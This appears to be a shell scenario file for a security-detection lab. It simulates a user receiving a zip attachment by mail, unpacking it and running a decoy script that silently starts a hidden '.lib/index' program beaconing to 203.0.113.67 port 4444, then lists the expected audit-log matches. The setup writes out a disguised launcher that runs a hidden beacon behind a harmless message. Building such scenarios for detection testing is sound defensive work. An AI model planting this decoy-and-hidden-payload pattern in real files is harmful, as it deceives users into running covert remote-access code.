# An archive is saved, unpacked in the file manager's way, and a hidden member of it runs.
title="Archive from a message unpacked, hidden program in it started"
what="The buyer's mailbox lies with Dovecot on the host itself; Thunderbird reads it over IMAP and saves delivery-papers.zip from a message into ~/Documents. The buyer unpacks it in a terminal and starts Show_papers, which
starts the hidden .lib/index beside it. That one connects to 203.0.113.67 port 4444."
host=ws3.example.org user=buyer daemons="cron dovecot" audit_format=RAW

setup() {
  dovecot_config
  mkdir -p "$base/out/papers/.lib"
  cc -O1 -o "$base/out/papers/.lib/index" "$lab/lib/stand-ins/beacon.c"
  printf '#!/bin/sh\ncd "$(dirname "$0")" && ./.lib/index 203.0.113.67 4444 >/dev/null; echo "No papers for today."\n' > "$base/out/papers/Show_papers"
  chmod 755 "$base/out/papers/Show_papers"
  (cd "$base/out/papers" && zip -q -r ../delivery-papers.zip .)
}
act() {
  display_up
  small_talk 2
  mail_in --from dispatch@example.net --to sales@example.org --subject "Delivery papers 22-4418" --attach "$base/out/delivery-papers.zip:application/zip"
  wait_mail buyer 1
  sleep 1
  thunderbird_save buyer delivery-papers.zip Documents
  small_talk 1
  console_as buyer <<'L'
cd Documents
ls
%sleep 1
unzip -q delivery-papers.zip -d papers-22
ls papers-22
%sleep 2
./papers-22/Show_papers
cd; ls
L
}
truth() {
  mail_step deliver 'to=<buyer@example.org>, orig_to=<sales@example.org>.*status=sent' 'the message reaches buyer by the alias sales'
  net_step fetch 'thunderbird.* 127.0.0.1:143' 'the mail client fetches it'
  file_step save 'thunderbird.*/home/buyer/Documents/delivery-papers.zip' 'and writes the archive'
  exec_step unpack 'unzip -q delivery-papers.zip' 'the archive is unpacked'
  file_step member 'unzip openat:write CREATE .*papers-22/.lib/index' 'the hidden program appears'
  exec_step execute 'sh ./papers-22/Show_papers' 'the visible script is started'
  exec_step hidden '.lib/index 203.0.113.67 4444' 'it starts the hidden program'
  net_step beacon '203.0.113.67:4444' 'which calls out'
}
